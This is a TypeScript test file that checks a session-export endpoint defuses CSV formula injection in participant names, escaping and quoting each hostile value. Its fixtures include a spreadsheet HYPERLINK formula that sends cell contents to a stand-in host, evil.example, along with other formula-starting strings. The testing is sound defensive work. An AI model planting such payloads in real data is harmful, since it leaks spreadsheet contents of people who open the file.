import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createDb, type Db } from "@emotion/db";
import { CreatedSession, toProbabilities } from "@emotion/protocol";
import { buildApp } from "../app";
import { CSV_HEADER, textCell } from "./csv";

/** RFC 4180 fields of one line (no newlines inside the fields used here). */
function fieldsOf(line: string): string[] {
  const fields: string[] = [];
  for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)) {
    const raw = m[1]!;
    fields.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (m[2] === "") break;
  }
  return fields;
}

describe("CSV export safety", () => {
  let db: Db;
  let app: FastifyInstance;
  let s: CreatedSession;
  const hostile = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"open me")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturn",
    "  =1+1",
    "Ada = fine",
    "Bo-Ann",
  ];

  beforeAll(async () => {
    db = await createDb();
    app = await buildApp({ db, vision: null, logger: false });
    s = CreatedSession.parse((await app.inject({ method: "POST", url: "/api/sessions", payload: { title: "Injection" } })).json());
    await db.startSession(s.id, new Date(Date.now() - 10_000));
    const p = toProbabilities([0.1, 0, 0, 0.6, 0.1, 0.1, 0.1]);
    let tMs = 0;
    for (const name of hostile) {
      const who = await db.joinParticipant({ sessionId: s.id, name, tokenHash: "-" });
      await db.insertReadings([
        { sessionId: s.id, participantId: who.id, capturedAt: 1e12 + tMs, serverAt: 1e12 + tMs, tMs, quality: "ok", dominant: "happy", probabilities: p },
      ]);
      tMs += 500;
    }
  });
  afterAll(async () => {
    await app?.close();
    await db?.close();
  });

  it("neutralises names a spreadsheet would run as formulas and keeps the columns and numbers", async () => {
    const res = await app.inject({ url: `/api/sessions/${s.id}/export.csv`, headers: { authorization: `Bearer ${s.speakerToken}` } });
    expect(res.statusCode).toBe(200);
    const lines = res.body.split("\n").filter(Boolean);
    expect(lines[0]).toBe(CSV_HEADER);
    const rows = lines.slice(1).map(fieldsOf);
    expect(rows).toHaveLength(hostile.length);
    // rows come per participant; t_ms tells which listener each one is (500 ms apart, in join order)
    const names = [...rows].sort((a, b) => Number(a[1]) - Number(b[1])).map((r) => r[0]);
    expect(names).toEqual([
      `'=HYPERLINK("https://evil.example/?leak="&A1,"open me")`,
      "'+1+2",
      "'-2+3",
      "'@SUM(A1:A9)",
      "Tabbed", // the database trims names, so leading tabs and returns never reach the file
      "Return",
      "'=1+1",
      "Ada = fine",
      "Bo-Ann",
    ]);
    for (const r of rows) {
      expect(r).toHaveLength(CSV_HEADER.split(",").length);
      // t_ms and the probabilities stay plain numbers, never quoted or prefixed
      for (const n of r.slice(1, 9)) expect(n).toMatch(/^\d+(\.\d+)?$/);
      expect(r.slice(9)).toEqual(["happy", "ok"]);
    }
    // the formula's own commas stay inside one quoted field
    expect(lines.find((l) => l.includes("HYPERLINK"))).toMatch(/^"'=HYPERLINK\(""https:\/\/evil\.example\/\?leak=""&A1,""open me""\)",0,0\.100,/);
  });

  it("prefixes every formula start, tab and carriage return included, and quotes per RFC 4180", () => {
    expect(textCell("Ada")).toBe("Ada");
    expect(textCell("Ada, the first")).toBe('"Ada, the first"');
    expect(textCell("=1+1")).toBe("'=1+1");
    expect(textCell("\tcmd")).toBe("'\tcmd");
    expect(textCell("\rcmd")).toBe(`"'\rcmd"`);
    expect(textCell(" @x")).toBe("' @x");
    expect(textCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
  });
});
